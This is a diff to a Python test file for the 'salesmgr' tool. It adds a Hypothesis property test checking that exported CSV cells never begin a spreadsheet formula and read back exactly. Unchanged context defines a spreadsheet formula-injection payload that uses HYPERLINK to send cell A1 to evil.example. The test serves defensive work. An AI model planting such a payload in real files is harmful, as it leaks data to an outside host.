@@ -12,8 +12,11 @@ import icalendar
 import pytest
 import vobject
 from helpers import one_error_line, salesmgr
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from salesmgr import storage
+from salesmgr.exchange.tables import csv_text, read_table
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
@@ -191,3 +194,23 @@ def test_ics_and_vcf_open_in_the_libraries_calendar_apps_use(
     assert jorg.tel.value == "+49 30 1234"
     again = list(vobject.readComponents(salesmgr("export", path, "--vcf").stdout))
     assert [c.uid.value for c in again] == [c.uid.value for c in cards]
+
+
+CELLS = st.text(
+    alphabet=st.sampled_from(list("=+-@'\t\r\n\",;| aéß€0123456789Zz")), max_size=12
+)
+
+
+@settings(max_examples=200, deadline=None)
+@given(rows=st.lists(st.lists(CELLS, min_size=3, max_size=3), min_size=1, max_size=6),
+       bom=st.booleans())
+def test_any_cells_written_read_back_exactly_and_never_start_a_formula(
+    rows: list[list[str]], bom: bool, tmp_path_factory: pytest.TempPathFactory
+) -> None:
+    header = ["a", "b", "c"]
+    path = tmp_path_factory.mktemp("csv") / "t.csv"
+    path.write_bytes(csv_text(header, rows, bom=bom).encode("utf-8"))
+    written = csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline=""))
+    assert not any(c[:1] in ("=", "+", "-", "@", "\t", "\r") for r in written for c in r)
+    table = read_table(path)
+    assert (table.header, [r.cells for r in table.rows]) == (header, rows)
